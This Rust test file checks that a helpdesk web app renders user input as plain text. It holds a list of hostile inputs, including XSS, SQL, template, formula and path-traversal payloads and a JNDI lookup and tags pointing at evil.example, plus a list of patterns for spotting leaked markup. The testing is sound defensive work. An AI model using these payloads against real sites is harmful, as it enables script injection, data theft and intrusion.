//! Text is text wherever it is shown (T35).

use helpdesk::Command;

use super::room::{ANNA, BORIS, Room, VERA, said};

/// What people write when they mean harm, or paste carelessly.
const BAD: [&str; 62] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><b>",
    "</textarea><script>alert(1)</script>",
    "</title><script>x</script>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>x</script>",
    "vbscript:x",
    "https://example.org/\"onclick=\"alert(1)",
    "https://example.org/'><b>",
    "http://a@b:c@d/<x>",
    "{{7*7}}",
    "{% include \"x\" %}",
    "${7*7}",
    "#{7*7}",
    "%n%s%x",
    "%00",
    "..\\..\\..",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "' OR 1=1 --",
    "%' OR '%'='",
    "\u{202e}gpj.exe",
    "\u{2066}x\u{2069}\u{200b}\u{feff}",
    "a\u{2028}b\u{2029}c",
    "\u{1f4a9}\u{0301}\u{0301}\u{0301}",
    "\u{fffd}\u{ffff}",
    "ﷺ",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=//evil.example></iframe>",
    "<math><mtext><table><mglyph><style><img src=x>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<template><script>x</script></template>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "`onmouseover=alert(1)`",
    "JaVaScRiPt:alert(1)",
    "java\u{ad}script:alert(1)",
    "http://example.org/<script>",
    "https://example.org/?a=1&b=\"<x>",
    "https://user:pass@example.org\u{202e}",
    "mailto:a@example.org?subject=<b>",
    "a@example.org\"onclick=\"x",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "${jndi:ldap://evil.example/a}",
    "\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}z\u{489}\u{488}",
];

/// Whether markup that somebody wrote has become markup of the page.
fn leaks(page: &str) -> Option<&'static str> {
    let signs = [
        "<script>",
        "<img src=x",
        "<svg onload",
        "<b>x",
        "<x>",
        "onclick=\"alert",
        "'><b>",
        "href=\"javascript",
        "href=\"data:",
        "href=\"vbscript",
        "<iframe",
        "<math",
        "<svg><set",
        "ontoggle=alert(1)>",
        "<input autofocus",
        "<body onload",
        "<base",
        "<meta http-equiv=refresh",
        "<form action=//",
        "<style",
        "<template",
        "\" autofocus onfocus",
        "' onmouseover='",
        ">49<",
        "<!--",
    ];
    signs.into_iter().find(|sign| page.contains(sign))
}

#[tokio::test]
async fn t35_text_is_text_in_every_field_of_every_page() {
    let mut cells = 0;
    for bad in BAD {
        let room = Room::new();
        let Ok(subject) = helpdesk::Subject::new(bad) else { continue };
        let number = room.open_with(VERA, true, subject.as_str(), bad);
        room.ask(BORIS, number, Command::Assign(Some(helpdesk::AgentId::new("boris").unwrap())));
        room.ask(BORIS, number, Command::Reply(said(bad)));
        room.ask(BORIS, number, Command::Note(said(bad)));
        let text = |field| helpdesk::Text::new(field, bad).unwrap();
        let reason = text(helpdesk::rules::words::Field::Reason);
        room.ask(BORIS, number, Command::RequestAccess { reason: reason.into() });
        let shown = [
            (VERA, "/tickets".to_owned()),
            (VERA, format!("/tickets/{number}")),
            (ANNA, "/queue".to_owned()),
            (ANNA, format!("/tickets/{number}")),
            (VERA, format!("/tickets/new?follows={number}")),
            (
                ANNA,
                format!("/search?q={}", super::room::encoded(&[("", bad)]).trim_start_matches('=')),
            ),
        ];
        for (user, path) in shown {
            let page = room.get(user, &path).await;
            assert!(
                page.status.is_success() || page.status == 422,
                "{bad:?} {path} {}",
                page.status
            );
            assert_eq!(leaks(&page.body), None, "{bad:?} in {path}");
            cells += 1;
        }
        // Refused input comes back in the form.
        let kept = room
            .post(VERA, "/tickets", &[("subject", bad), ("text", bad), ("priority", bad)])
            .await;
        assert_eq!(kept.status, 422);
        assert_eq!(leaks(&kept.body), None, "{bad:?} kept");
        let stars = helpdesk::Stars::new(3).unwrap();
        let rating = helpdesk::RatingGiven::new(stars).with_comment(said(bad));
        room.ask(VERA, number, Command::close_rated(rating));
        for user in [VERA, ANNA] {
            let page = room.get(user, &format!("/tickets/{number}")).await;
            assert_eq!(leaks(&page.body), None, "{bad:?} in a comment");
            cells += 2;
        }
    }
    println!("T35: {cells} cells, 0 violations");
    assert!(cells > 250);
}

#[tokio::test]
async fn t35_what_is_no_text_is_refused_with_the_field_named_and_nothing_written() {
    let room = Room::new();
    let long = "м".repeat(40_000);
    for bad in ["a\0b", "a\u{1b}[31mb", "a\u{7}b", long.as_str()] {
        let form = [("priority", "low"), ("subject", "S"), ("text", bad)];
        let page = room.post(VERA, "/tickets", &form).await;
        assert_eq!(page.status, 422, "{:?}", bad.chars().take(5).collect::<String>());
        assert!(page.body.contains("id=\"text-problem\""));
    }
    let subject = room
        .post(VERA, "/tickets", &[("priority", "low"), ("subject", "a\nb"), ("text", "T")])
        .await;
    assert!(subject.body.contains("id=\"subject-problem\""));
    assert!(
        room.get(VERA, "/tickets").await.body.contains("class=\"empty\""),
        "nothing was opened"
    );
}
